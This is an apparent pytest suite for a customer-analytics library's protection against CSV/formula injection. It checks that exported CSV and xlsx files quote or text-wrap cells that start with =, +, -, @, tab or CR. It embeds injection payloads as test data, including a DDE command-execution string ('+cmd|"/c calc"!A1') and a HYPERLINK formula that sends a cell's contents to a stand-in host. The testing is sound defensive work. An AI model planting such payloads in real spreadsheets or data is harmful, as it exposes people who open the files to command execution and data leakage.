"""Formula-safe exports (CSV/formula injection, OWASP): no file retainlib writes runs client text.

A text cell that begins with = + - @ tab or CR gets a leading ' in CSV (unless it is a number)
and is a text cell, never a formula, in .xlsx. Checked on hand-made tables, then end to end:
a client's sales and survey files with such texts in ids, segment values, rejected rows and
survey comments, through the loader, the analysis and the files a report writes.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pandas.testing import assert_frame_equal

import retainlib as rl
from retainlib.analytics.early_warning import AT_RISK_COLUMNS
from retainlib.load.parsing import TEXT
from retainlib.output.cells import formula_mask, is_formula_text, protect_formulas, protect_text
from retainlib.output.tables import export_at_risk, export_table
from retainlib.report.analysis import analyse, write_outputs

LINK = '=HYPERLINK("http://x/?q="&A1,"open")'
SUM = "@SUM(1+1)"
CMD = '+cmd|"/c calc"!A1'
PAYLOADS = [LINK, SUM, CMD, "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", [*PAYLOADS, "=1+1", "-cmd", "+972-54-1234567", "=", "-",
                                  "@", "-1e5x", "+1,23"])
def test_formula_texts(text):
    assert is_formula_text(text)
    assert protect_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-45.5", "+3", "1e5", "-1e5", "+.5", "-7.", "-1,234.50",
                                   "42", "A=1", "a@b.com", " =1+1", "'=1+1", "", -45.5, 3, None,
                                   np.nan, pd.Timestamp("2024-01-01")])
def test_numbers_and_other_values_are_not_formula_text(value):
    assert not is_formula_text(value)
    assert protect_text(value) is value


@pytest.mark.parametrize("dtype", [object, TEXT, "string", "category"])
def test_protect_formulas_quotes_text_columns_index_and_names(dtype):
    df = pd.DataFrame(
        {"segment": pd.array([LINK, "North", "-45.5", None], dtype=dtype),
         "revenue": [-45.5, 10.0, 0.5, 2.0],
         "first": pd.to_datetime(["2024-01-05", "2024-02-01", "2024-03-01", "2024-03-02"])},
        index=pd.Index([SUM, "007", "-2+3", "\t=1+1"], name="customer_id"),
    )
    got = protect_formulas(df)
    want = pd.DataFrame(
        {"segment": pd.array(["'" + LINK, "North", "-45.5", None], dtype=dtype),
         "revenue": [-45.5, 10.0, 0.5, 2.0],
         "first": pd.to_datetime(["2024-01-05", "2024-02-01", "2024-03-01", "2024-03-02"])},
        index=pd.Index(["'" + SUM, "007", "'-2+3", "'\t=1+1"], name="customer_id"),
    )
    # a categorical's categories are renamed in place, so their order may differ
    assert_frame_equal(got, want, check_categorical=dtype != "category")
    assert df.loc[SUM, "segment"] == LINK  # a copy: the input is unchanged


def test_protect_formulas_on_mixed_object_columns_and_column_names():
    df = pd.DataFrame({"=x": pd.Series(["@a", 1, 2.5, None], dtype=object), "n": [1, 2, 3, 4]})
    got = protect_formulas(df)
    assert list(got.columns) == ["'=x", "n"]
    assert got["'=x"].tolist()[:3] == ["'@a", 1, 2.5] and got["'=x"].iloc[3] is None
    assert got["n"].tolist() == [1, 2, 3, 4]


def test_protect_formulas_categorical_whose_quoted_text_is_already_a_category():
    s = pd.Series(pd.Categorical(["=a", "'=a", "b"]))
    got = protect_formulas(s.to_frame("c"))["c"]
    assert got.tolist() == ["'=a", "'=a", "b"]  # renaming would repeat a category: values instead


def test_formula_mask_skips_columns_that_are_not_text():
    assert not formula_mask(pd.Series([-1.0, -2.0])).any()
    assert not formula_mask(pd.Series([pd.Timestamp("2024-01-01").date()] * 2)).any()
    assert formula_mask(pd.Series(["-x", "x"], dtype="category")).tolist() == [True, False]


# --------------------------------------------------------------------------- CSV and xlsx
def _table() -> pd.DataFrame:
    """Payloads in the customer ids (index), a categorical segment and a text column."""
    ids = [*PAYLOADS, "-45.5", "007"]
    region = [SUM, "-2+3", "\t=1+1", "\r=1+1", LINK, CMD, "North", "North"]
    note = [CMD, "\t=1+1", "\r=1+1", LINK, SUM, "-2+3", "-45.5", "+972-54-1234567"]
    return pd.DataFrame(
        {"region": pd.Categorical(region), "note": pd.array(note, dtype=TEXT),
         "revenue": [-45.5, 10.0, 0.5, 1.0, 2.0, 3.0, 4.0, -1.0],
         "first_purchase": pd.to_datetime(["2024-01-05"] * 8)},
        index=pd.Index(ids, name="customer_id"),
    )


def _csv_rows(path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_quotes_every_formula_text_and_keeps_numbers(tmp_path):
    path = export_table(_table(), tmp_path / "customers.csv")
    q = "'"
    assert _csv_rows(path) == [
        ["customer_id", "region", "note", "revenue", "first_purchase"],
        [q + LINK, q + SUM, q + CMD, "-45.5", "2024-01-05"],
        [q + SUM, "'-2+3", "'\t=1+1", "10", "2024-01-05"],  # decimals in fixed notation
        [q + CMD, "'\t=1+1", "'\r=1+1", "0.5", "2024-01-05"],
        ["'-2+3", "'\r=1+1", q + LINK, "1", "2024-01-05"],
        ["'\t=1+1", q + LINK, q + SUM, "2", "2024-01-05"],
        ["'\r=1+1", q + CMD, "'-2+3", "3", "2024-01-05"],
        ["-45.5", "North", "-45.5", "4", "2024-01-05"],
        ["007", "North", "'+972-54-1234567", "-1", "2024-01-05"],
    ]
    raw = path.read_bytes().decode("utf-8-sig")
    # the CR is inside a quoted field: a spreadsheet cannot start a new row "=1+1,..." there
    assert '\r\n"\'\r=1+1",' in raw and '"\'=HYPERLINK(""http://x/?q=""&A1,""open"")"' in raw
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={"customer_id": str})
    assert len(back) == 8 and back["revenue"].tolist()[0] == -45.5  # numbers stay numbers


def _formula_cells(path) -> list:
    ws = openpyxl.load_workbook(path).active
    return [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path):
    table = _table()
    path = export_table(table, tmp_path / "customers.xlsx")
    assert _formula_cells(path) == []
    assert re.search(r"<f[ >]", _sheet_xml(path)) is None
    ws = openpyxl.load_workbook(path).active
    rows = list(ws.iter_rows(min_row=2, max_col=3))
    for cells, (cid, rec) in zip(rows, table.iterrows(), strict=True):
        for cell, value in zip(cells, [cid, rec["region"], rec["note"]], strict=True):
            assert cell.data_type == "s"
            # XML reads a raw CR in text as LF (openpyxl writes it unescaped); still text
            assert cell.value == value.replace("\r", "\n")
            assert cell.quotePrefix == is_formula_text(value), (cell.coordinate, value)
    revenue = ws.cell(row=2, column=4)
    assert (revenue.value, revenue.data_type) == (-45.5, "n")


def test_xlsx_header_and_error_texts_are_text_cells(tmp_path):
    df = pd.DataFrame({"=1+1": ["#N/A", "ok"]}, index=pd.Index(["a", "b"], name="customer_id"))
    path = export_table(df, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(path).active
    assert [(c.value, c.data_type) for c in ws[1]] == [("customer_id", "s"), ("=1+1", "s")]
    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].quotePrefix) == ("#N/A", "s", True)
    assert _formula_cells(path) == []


def test_at_risk_list_csv_and_xlsx_are_safe(tmp_path):
    risk = pd.DataFrame({c: [1.0, 2.0] for c in AT_RISK_COLUMNS},
                        index=pd.Index([LINK, "-2+3"], name="customer_id"))
    risk["list"], risk["reason"] = "at risk", ["chance still active 32%", "-"]
    rows = _csv_rows(export_at_risk(risk, tmp_path / "at_risk.csv"))
    why = rows[0].index("Why")
    assert [(r[0], r[why]) for r in rows[1:]] == [("'" + LINK, "chance still active 32%"),
                                                  ("'-2+3", "'-")]
    path = export_at_risk(risk, tmp_path / "at_risk.xlsx")
    assert _formula_cells(path) == []
    assert openpyxl.load_workbook(path).active["A2"].value == LINK


# --------------------------------------------------------------------------- end to end
SALES_ROWS = [  # demo sales columns: date, invoice, customer id, region, channel, amount
    f'05/06/2024,900001,"{LINK.replace(chr(34), 2 * chr(34))}",{SUM},web,₪10.00',
    f'06/06/2024,900002,{SUM},"{CMD.replace(chr(34), 2 * chr(34))}",web,₪20.00',
    f'07/06/2024,900003,"{CMD.replace(chr(34), 2 * chr(34))}",-2+3,app,₪30.00',
    '08/06/2024,900004,"\t=1+1","\t=1+1",store,₪40.00',  # the trim leaves =1+1
    '09/06/2024,900005,-45.5,"\r=1+1",store,₪50.00',  # an id that is a number; CR trimmed
    '10/06/2024,900006,,"\t@x",web,₪5.00',  # blank id: rejected, raw region kept
    "31/02/2024,900007,@bad,North,web,₪5.00",  # impossible date: rejected
    "11/06/2024,900008,000001,North,web,-cmd",  # non-numeric amount: rejected
]
SURVEY_ROWS = [  # demo survey columns: customer id, answer date, score, comment
    f'000001,01/12/2025,2,"\t{LINK.replace(chr(34), 2 * chr(34))}"',
    f"{SUM},02/12/2025,0,{SUM}",
]


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    folder = tmp_path_factory.mktemp("client")
    cfg = rl.write_demo(folder, n_customers=400)
    with open(folder / "sales.csv", "a", encoding="cp1255", newline="") as f:
        f.write("\r\n".join(SALES_ROWS) + "\r\n")
    with open(folder / "survey.csv", "a", encoding="utf-8", newline="") as f:
        f.write("\n".join(SURVEY_ROWS) + "\n")
    a = analyse(str(cfg))
    out = folder / "out"
    out.mkdir()
    return a, {p.name: p for p in write_outputs(a, out)}


def test_loader_keeps_the_payloads_as_text(report):
    a, _ = report
    assert {LINK, SUM, CMD, "=1+1", "-45.5"} <= set(a.customers.index)
    assert a.customers.loc["=1+1", "region"] == "=1+1"  # '\t=1+1' trimmed by the loader


def test_report_csv_files_hold_no_formula_text(report):
    _, files = report
    for name in ("customers.csv", "at_risk.csv", "rejected_rows.csv"):
        rows = _csv_rows(files[name])
        live = [cell for row in rows for cell in row if is_formula_text(cell)]
        assert live == [], name
    customers = {r[0]: r for r in _csv_rows(files["customers.csv"])}
    region = customers["Customer ID"].index("Region")
    assert {cid: customers[cid][region] for cid in
            ["'" + LINK, "'" + SUM, "'" + CMD, "'=1+1", "-45.5"]} == {
        "'" + LINK: "'" + SUM, "'" + SUM: "'" + CMD, "'" + CMD: "'-2+3", "'=1+1": "'=1+1",
        "-45.5": "'=1+1"}


def test_rejected_rows_csv_quotes_the_raw_client_text(report):
    _, files = report
    header, *rows = _csv_rows(files["rejected_rows.csv"])
    rec = [dict(zip(header, r, strict=True)) for r in rows]
    assert {"reason": "blank customer id", "customer_id": "", "region": "'\t@x"} in [
        {k: r[k] for k in ("reason", "customer_id", "region")} for r in rec]
    assert {"reason": "impossible date", "customer_id": "'@bad"} in [
        {k: r[k] for k in ("reason", "customer_id")} for r in rec]
    assert {"reason": "non-numeric amount", "amount": "'-cmd"} in [
        {k: r[k] for k in ("reason", "amount")} for r in rec]


def test_customer_workbook_has_no_formula_cells(report, tmp_path):
    a, _ = report
    path = rl.export_customers(a.customers, tmp_path / "customers.xlsx")
    assert _formula_cells(path) == [] and re.search(r"<f[ >]", _sheet_xml(path)) is None
    ws = openpyxl.load_workbook(path).active
    header = [c.value for c in ws[1]]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    link = rows[LINK]
    assert (link[0].data_type, link[0].quotePrefix) == ("s", True)
    assert link[header.index("Region")].value == SUM
    assert rows["=1+1"][header.index("Region")].value == "=1+1"
    assert rows["-45.5"][0].data_type == "s"  # an id, not the number -45.5


def test_survey_comments_in_the_detractor_list_export_safely(report, tmp_path):
    # survey comments reach no file of a report (only the detractor table of its HTML page);
    # the detractor list a consultant exports for call-backs must be safe too
    a, _ = report
    detractors = a.detractors.loc[["000001", SUM]]
    assert detractors["comment"].tolist() == [LINK, SUM]  # '\t' trimmed by the survey loader
    rows = {r[0]: r for r in _csv_rows(export_table(detractors, tmp_path / "call.csv"))}
    comment = rows["customer_id"].index("comment")
    assert (rows["000001"][comment], rows["'" + SUM][comment]) == ("'" + LINK, "'" + SUM)
    path = export_table(detractors, tmp_path / "call.xlsx")
    assert _formula_cells(path) == []
    ws = openpyxl.load_workbook(path).active
    assert [c.value for c in ws["A"]][1:] == ["000001", SUM]
